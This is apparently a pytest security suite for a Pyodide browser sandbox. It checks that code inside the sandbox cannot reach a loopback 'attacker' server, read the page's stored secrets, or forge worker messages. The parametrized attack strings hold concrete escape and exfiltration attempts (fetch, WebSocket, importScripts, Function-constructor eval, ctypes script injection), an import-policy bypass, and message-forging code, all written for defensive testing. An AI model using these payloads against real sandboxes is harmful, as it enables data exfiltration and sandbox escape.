"""The browser boundary, tested with the Python policy off: no request reaches another server
(a loopback "attacker" counts hits), and the app page's storage is untouched."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from tests.browser.sandbox.conftest import SdkPage
from tests.support.engines import lacks

pytestmark = pytest.mark.browser


class Attacker:
    """A loopback HTTP server that only counts what reaches it."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                attacker.hits.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    server = Attacker()
    thread = threading.Thread(target=server.server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.server.shutdown()


@pytest.fixture(scope="module")
def open_sandbox(sdk: SdkPage) -> str:
    sdk.page.evaluate("appStorage.seed()")
    return sdk.create(policy="off")


SETTLE = "import asyncio\nawait asyncio.sleep(0.5)\n"

# Each attack with the proof that the browser (or the kernel's audit) saw and refused it: the
# entry it leaves in audit.networkAttempts (kind, end of the target, the API whose CSP event an
# engine may lack), or a text the error has ("|" between each engine's wording).
# That no request reaches the attacker would also hold for an attempt that never got going.
ATTACKS = [
    pytest.param(
        "from js import fetch\nawait fetch('{url}/fetch')",
        ("csp:connect-src", "/fetch", "fetch"),
        id="js-fetch",
    ),
    pytest.param(
        "from pyodide.http import pyfetch\nawait pyfetch('{url}/pyfetch')",
        ("csp:connect-src", "/pyfetch", "fetch"),
        id="pyfetch",
    ),
    pytest.param(
        "from js import XMLHttpRequest\nx = XMLHttpRequest.new()\n"
        "x.open('GET', '{url}/xhr', False)\nx.send()",
        ("csp:connect-src", "/xhr", "XMLHttpRequest"),
        id="xhr",
    ),
    pytest.param(
        "from js import WebSocket\nws = WebSocket.new('{ws}/ws')\n" + SETTLE,
        ("csp:connect-src", "/ws", "WebSocket"),
        id="websocket",
    ),
    pytest.param(
        "import js\njs.EventSource.new('{url}/sse')\n" + SETTLE,
        ("csp:connect-src", "/sse", "EventSource"),
        id="eventsource",
    ),
    pytest.param(
        "from js import importScripts\nimportScripts('{url}/import.js')",
        ("csp:script-src-elem", "/import.js", "importScripts"),
        id="importScripts",
    ),
    pytest.param(
        "import js\nawait js.FontFace.new('x', 'url({url}/font.woff)').load()",
        ("csp:font-src", "/font.woff", "FontFace"),
        id="font",
    ),
    # A worker has no <img>: an image comes in through fetch (then createImageBitmap).
    pytest.param(
        "import js\nawait js.createImageBitmap(await (await js.fetch('{url}/img.png')).blob())",
        ("csp:connect-src", "/img.png", "fetch"),
        id="image",
    ),
    # No sockets in Pyodide: urllib fails on its own, and the kernel's audit names the attempt.
    pytest.param(
        "import urllib.request\nurllib.request.urlopen('{url}/urllib', timeout=2)",
        ("urllib.Request", "/urllib", None),
        id="urllib",
    ),
    # A nested worker's refusals are its own events, not this run's; without the frame's CSP
    # its fetch would reach the attacker, so no hit is the proof here.
    pytest.param(
        "import js\nfrom pyodide.ffi import to_js\n"
        "blob = js.Blob.new(to_js([\"fetch('{url}/nested')\"]))\n"
        "js.Worker.new(js.URL.createObjectURL(blob))\n" + SETTLE,
        None,
        id="nested-blob-worker",
    ),
    pytest.param(
        "import js\nfrom pyodide.ffi import to_js\n"
        "Function = to_js({{}}, dict_converter=js.Object.fromEntries).constructor.constructor\n"
        "Function(\"return fetch('{url}/function')\")()\n" + SETTLE,
        ("csp:script-src", "eval", "Function"),
        id="function-constructor",
    ),
    # Pyodide cannot survive the refused eval: the runtime's failure names the CSP.
    pytest.param(
        "import ctypes\nlib = ctypes.CDLL(None)\n"
        "lib.emscripten_run_script(b\"fetch('{url}/ctypes')\")\n" + SETTLE,
        "Content Security Policy|blocked by CSP",
        id="ctypes-run-script",
    ),
]


def attack_deadline_ms(engine: str) -> int:
    """A refused request ends the run at once where the engine settles it; where it never does
    (WebKitGTK), the run always ends at this deadline, and a short one proves as much."""
    return 10_000 if not lacks(engine, "blocked-fetch-settles") else 3_000


def reported(engine: str, api: str | None) -> bool:
    """Whether the engine reports a refusal of `api` (None: the kernel's own audit does)."""
    if api is None:
        return True
    return not lacks(engine, "csp-events-in-workers") and not lacks(engine, f"csp-event-{api}")


@pytest.mark.parametrize(("attack", "blocked"), ATTACKS)
def test_no_request_reaches_another_server(
    sdk: SdkPage, open_sandbox: str, attacker: Attacker, attack: str, blocked: object
) -> None:
    code = attack.format(url=attacker.url, ws=attacker.url.replace("http", "ws"))
    result = sdk.run(open_sandbox, code, timeoutMs=attack_deadline_ms(sdk.engine))
    assert result["outcome"] != "OUTCOME_POLICY_VIOLATION", "the policy must be off here"
    assert attacker.hits == []
    if result["outcome"] == "OUTCOME_DEADLINE_EXCEEDED":  # only where a refused fetch never ends
        assert isinstance(blocked, tuple) and blocked[2] == "fetch", result["error"]
        assert lacks(sdk.engine, "blocked-fetch-settles") and result["stateLost"] is True
    if isinstance(blocked, tuple) and reported(sdk.engine, blocked[2]):
        kind, target_end, _ = blocked
        attempts = result["audit"]["networkAttempts"]
        assert any(a["kind"] == kind and a["target"].endswith(target_end) for a in attempts), (
            attempts
        )
    elif isinstance(blocked, str):
        assert any(one in result["error"]["message"] for one in blocked.split("|")), result
    assert sdk.page.evaluate("1 + 1") == 2


# Each probe with what it must observe (in its stdout or its error): an opaque origin has no
# CacheStorage (Chromium: no `caches`; Firefox: its getter fails; WebKit: a store of its own,
# without the app's cache) and is denied IndexedDB; a channel or a forged message reaches
# nobody; the app's runtime files come with cookies asked for, and no secret in them.
STORAGE_PROBES = [
    pytest.param(
        "import js\nprint('cache names', list(await js.caches.keys()))",
        "caches|NS_ERROR_FAILURE|cache names []",
        id="cache-storage",
    ),
    pytest.param(
        "import js\njs.indexedDB.open('app-db')\n" + SETTLE, "SecurityError", id="indexeddb"
    ),
    pytest.param(
        "import js\njs.BroadcastChannel.new('app').postMessage('forged')",
        "probe done",
        id="broadcast",
    ),
    pytest.param(
        "import js\nr = await js.fetch('{origin}/runtime/manifest.json', credentials='include')\n"
        "print('status', r.status)",
        # Under `wasmbox serve` the frame may read the runtime (without the page's cookies); the
        # frame the SDK writes for static hosts has no network at all (Chromium's and Firefox's
        # words for the refusal).
        "status 200|Failed to fetch|NetworkError when attempting to fetch resource",
        id="cookies-with-fetch",
    ),
    pytest.param(
        "import js\njs.postMessage(js.JSON.parse("
        '\'{{"type": "result", "id": 1, "runId": "x", "result": {{}}}}\'))',
        "probe done",
        id="forged-worker-message",
    ),
]


@pytest.mark.parametrize(("probe", "observed"), STORAGE_PROBES)
def test_the_app_storage_is_out_of_reach(
    sdk: SdkPage, open_sandbox: str, probe: str, observed: str
) -> None:
    before = sdk.page.evaluate("appStorage.snapshot()")
    assert before["local"] == {"token": "app-secret"} and before["idb"] == "app-secret"
    origin = sdk.page.evaluate("location.origin")
    result = sdk.run(open_sandbox, probe.format(origin=origin) + "\nprint('probe done')")
    after = sdk.page.evaluate("appStorage.snapshot()")
    assert after == before
    assert "app-secret" not in str(result)
    refused_fetch_hangs = "fetch(" in probe and result["outcome"] == "OUTCOME_DEADLINE_EXCEEDED"
    if refused_fetch_hangs and lacks(sdk.engine, "blocked-fetch-settles"):
        assert result["stateLost"] is True  # nothing was sent; the sandbox was replaced
        return
    seen = result["stdout"] + ((result["error"] or {}).get("message") or "")
    assert any(one in seen for one in observed.split("|")), seen


def test_forged_messages_on_the_page_are_ignored(sdk: SdkPage, open_sandbox: str) -> None:
    """Messages that do not come from the sandbox's own frame (or port) are dropped."""
    result = sdk.page.evaluate(
        """async id => {
            const sb = wasmbox.Sandbox.get(id);
            const run = sb.execute("import time; time.sleep(0.3); 'real'");
            const fake = { type: "frame-ready", isolated: true };
            window.postMessage(fake, "*");
            const forged = { type: "result", id: 1, runId: "x", result: {} };
            const frames = document.querySelectorAll("iframe");
            for (const f of frames) f.contentWindow.postMessage(forged, "*");
            return (await run).value["text/plain"];
        }""",
        open_sandbox,
    )
    assert result == "'real'"
    assert sdk.run(open_sandbox, "'still fine'")["value"]["text/plain"] == "'still fine'"


def test_sandbox_frame_is_an_opaque_origin(sdk: SdkPage, open_sandbox: str) -> None:
    attrs = sdk.page.evaluate(
        "[...document.querySelectorAll('iframe')].map(f => f.getAttribute('sandbox'))"
    )
    assert attrs and all(a == "allow-scripts" for a in attrs)
    origin = sdk.run(open_sandbox, "import js\njs.location.origin")["value"]["text/plain"]
    assert origin == "'null'"


def test_the_import_policy_is_advisory_and_the_browser_still_holds(
    sdk: SdkPage, attacker: Attacker
) -> None:
    """The policy says so in environment(); an import run in a library module's own globals
    gets past it, and the browser still refuses the request."""
    sandbox = sdk.create()  # the default policy
    notes = sdk.call(sandbox, "environment")["notes"]
    assert any("import policy" in note and "advisory" in note for note in notes)
    forged = sdk.run(sandbox, "exec('import js', {'__spec__': __import__('json').__spec__})")
    assert forged["outcome"] == "OUTCOME_POLICY_VIOLATION"
    code = f"import json\nexec('import js', json.__dict__)\nawait json.js.fetch('{attacker.url}/x')"
    result = sdk.run(sandbox, code, timeoutMs=attack_deadline_ms(sdk.engine))
    assert attacker.hits == []
    if lacks(sdk.engine, "blocked-fetch-settles"):
        assert result["outcome"] == "OUTCOME_DEADLINE_EXCEEDED"
        assert result["stateLost"] is True
        return
    assert result["outcome"] == "OUTCOME_FAILED"
    refusals = ("Failed to fetch", "NetworkError when attempting to fetch resource")
    assert any(one in result["error"]["message"] for one in refusals), result["error"]
    if reported(sdk.engine, "fetch"):
        attempts = result["audit"]["networkAttempts"]
        assert {"kind": "csp:connect-src", "target": f"{attacker.url}/x"} in attempts


# The worker's result for its own run, forged by the run's code on the worker's port to the host
# (taken as the worker posts a line of output): 6,000 files, one entry of a list made bad (or
# none). The host checks long lists in one loop (protocol/schema.ts: quickList).
FORGED_RESULT = """
import js, json, sys
from pyodide.ffi import create_proxy
from wasmbox_kernel.context import DISPATCHER
ports = []
post = js.MessagePort.prototype.postMessage
def taking_the_port(port, *args):
    ports.append(port)
    return post.apply(port, js.Array.of(*args))
js.MessagePort.prototype.postMessage = create_proxy(taking_the_port, capture_this=True)
try:
    print("a line", flush=True)
finally:
    js.MessagePort.prototype.postMessage = post
paths = [f"f{i}" for i in range(6000)]
files = [{"path": p, "size": 0, "mime": "application/octet-stream"} for p in paths]
BAD
audit = {"codeSha256": "", "filesRead": [], "filesWritten": paths, "networkAttempts": [],
         "importedModules": [], "peakMemoryBytes": None}
result = {"outcome": "OUTCOME_OK", "stdout": "forged", "stderr": "", "truncated": False,
          "value": None, "displays": [], "files": files, "error": None, "policy": None,
          "audit": audit}
message = {"type": "result", "id": int(DISPATCHER.current().run_id), "result": result}
ports[0].postMessage(js.JSON.parse(json.dumps(message)))
"""


@pytest.mark.parametrize(
    ("bad", "field"),
    [
        pytest.param("paths[5000] = 7", "result.audit.filesWritten.5000", id="path-not-text"),
        pytest.param("files[4000]['size'] = 0.5", "result.files.4000.size", id="file-size"),
        pytest.param("", None, id="accepted"),
    ],
)
def test_a_result_with_a_bad_entry_deep_in_a_long_list_is_refused(
    sdk: SdkPage, open_sandbox: str, bad: str, field: str | None
) -> None:
    """Bad data from the worker is refused however long the list that holds it, with the
    field named; a well-formed long result is taken whole."""
    result = sdk.run(open_sandbox, FORGED_RESULT.replace("BAD", bad))
    if field is None:
        assert (result["outcome"], result["stdout"]) == ("OUTCOME_OK", "forged")
        assert result["audit"]["filesWritten"] == [f"f{i}" for i in range(6000)]
        assert len(result["files"]) == 6000 and result["stateLost"] is False
        return
    assert (result["outcome"], result["error"]["name"]) == ("OUTCOME_FAILED", "ProtocolError")
    assert field in result["error"]["message"]
    assert result["stateLost"] is True
    assert sdk.run(open_sandbox, "'still fine'")["value"]["text/plain"] == "'still fine'"
